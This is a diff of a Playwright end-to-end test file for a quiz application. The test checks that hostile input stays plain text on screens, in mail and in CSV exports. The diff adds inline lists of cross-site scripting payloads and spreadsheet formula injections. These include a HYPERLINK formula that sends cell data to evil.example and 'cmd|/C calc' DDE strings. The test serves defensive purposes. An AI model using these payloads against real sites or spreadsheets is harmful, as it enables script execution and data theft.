@@ -1,15 +1,8 @@
-import { readFileSync } from 'node:fs';
+import type { Page } from '@playwright/test';
 import type { AdminClient, PreparedQuiz } from './support/admin-client.ts';
 import { Candidate } from './support/candidate.ts';
+import { download } from './support/controls.ts';
 import { expect, test } from './support/e2e-test.ts';
-import {
-  expectNoFormula,
-  expectOnlyText,
-  hostileElements,
-  hostileText,
-  SCRIPTS,
-  ScriptWatch,
-} from './support/hostile-texts.ts';
 import { PAGE_ONLY } from './support/policies.ts';
 import { parseCsv } from './support/question-file.ts';
 import { mailServer } from './support/server-settings.ts';
@@ -17,6 +10,85 @@ import { signInAsAdmin } from './support/sign-in.ts';
 import { beginAttempt } from './support/written-attempts.ts';
 
 test.use({ database: 'hostile texts' });
+
+/**
+ * Texts that run code if they are interpreted as markup, URL, template, style or formula. An element
+ * made from one carries `data-hostile`.
+ */
+const SCRIPTS = [
+  '<script data-hostile>alert(1)</script>',
+  '"><img data-hostile src=x onerror=alert(1)>',
+  "'><svg data-hostile onload=alert(1)>",
+  '<iframe data-hostile srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '</title></textarea></style><script data-hostile>alert(1)</script>',
+  '<a data-hostile href="javascript:alert(1)">x</a>',
+  '<style data-hostile>*{display:none}</style>',
+  '<base data-hostile href="https://evil.example/">',
+  '<meta data-hostile http-equiv=refresh content="0;url=https://evil.example">',
+  '<form data-hostile action="https://evil.example"><button>x</button></form>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: as a template would have it
+  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
+  'javascript:alert(1)//https://evil.example',
+] as const;
+
+/** Formulas that a spreadsheet would run; no cell of an may begin as they do. */
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "+cmd|' /C calc'!A1",
+  "-2+3+cmd|' /C calc'!A1",
+  "@SUM(1+1)*cmd|' /C calc'!A1",
+  '=1+1";=1+1',
+  '＝1+1',
+] as const;
+
+/** The n-th text of both lists together. */
+function hostileText(n: number): string {
+  const all = [...SCRIPTS, ...FORMULAS];
+  return all[n % all.length] ?? '';
+}
+
+/** Records dialogs, and requests to other origins. */
+class ScriptWatch {
+  readonly seen: string[] = [];
+
+  /** From now on, on all pages of this page's context. */
+  watch(page: Page, own: string): void {
+    page.context().on('dialog', async (dialog) => {
+      this.seen.push(`dialog: ${dialog.message()}`);
+      await dialog.dismiss();
+    });
+    page.context().on('request', (request) => {
+      const url = request.url();
+      if (!url.startsWith(own) && !/^(data|blob|about):/.test(url))
+        this.seen.push(`request: ${url}`);
+    });
+  }
+}
+
+/** Elements and event handlers that came from a text. */
+function hostileElements(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const elements = document.querySelectorAll('[data-hostile], base, [href^="javascript:" i]');
+    const handlers = [...document.querySelectorAll('*')].filter((element) =>
+      [...element.attributes].some(({ name }) => /^on[a-z]+$/.test(name)),
+    );
+    return [...elements, ...handlers].map((element) => element.outerHTML.slice(0, 200));
+  });
+}
+
+/** No text has become an element. */
+async function expectOnlyText(page: Page, where: string): Promise<void> {
+  expect(await hostileElements(page), where).toEqual([]);
+}
+
+/** No cell begins as a formula does; numbers are allowed. */
+function expectNoFormula(rows: string[][], where: string): void {
+  expect(rows.length, where).toBeGreaterThan(1);
+  for (const cell of rows.flat()) {
+    if (!/^-?\d+([.,:]\d+)*$/.test(cell))
+      expect(cell, where).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
+  }
+}
 
 const MOST = SCRIPTS.length;
 /** Addresses that are valid in mail and formulas in a spreadsheet. */
@@ -51,10 +123,10 @@ test('hostile input stays text on every screen, on paper, in mail and in every e
   for (let n = 0; n < MOST; n += 4) quizzes.push(await hostileQuiz(adminClient, n));
   const [quiz] = quizzes;
   if (quiz === undefined) throw new Error('one was made');
-  const guests = await adminClient.invite(quiz, ...ADDRESSES);
-  const [first, second] = guests;
-  if (first === undefined || second === undefined) throw new Error('they were invited');
-  const writer = await beginAttempt(testServer.url, quiz, first);
+  const [first = '', ...others] = ADDRESSES;
+  const writer = await beginAttempt(adminClient, quiz, first);
+  const [second] = await adminClient.invite(quiz, ...others);
+  if (second === undefined) throw new Error('they were invited');
   const violation = await writer.person.call('reportViolation', {
     body: { participantId: writer.id, violationType: 'window_blur', notes: hostileText(1) },
   });
@@ -102,11 +174,8 @@ test('hostile input stays text on every screen, on paper, in mail and in every e
     const dialog = page.getByRole('dialog', { name: 'Manage Questions' });
     await dialog.getByRole('button', { name: 'Edit question 1', exact: true }).click();
     await expectOnlyText(page, 'questions');
-    const [file] = await Promise.all([
-      page.waitForEvent('download'),
-      dialog.getByRole('button', { name: 'Export', exact: true }).click(),
-    ]);
-    expectNoFormula(parseCsv(readFileSync(await file.path(), 'utf8')), 'exported questions');
+    const { text } = await download(dialog.getByRole('button', { name: 'Export', exact: true }));
+    expectNoFormula(parseCsv(text), 'exported questions');
     await page.goto('/admin/quizzes');
     await page.getByRole('button', { name: `Manage questions of ${title}`, exact: true }).click();
     await dialog.getByRole('button', { name: 'Print', exact: true }).click();
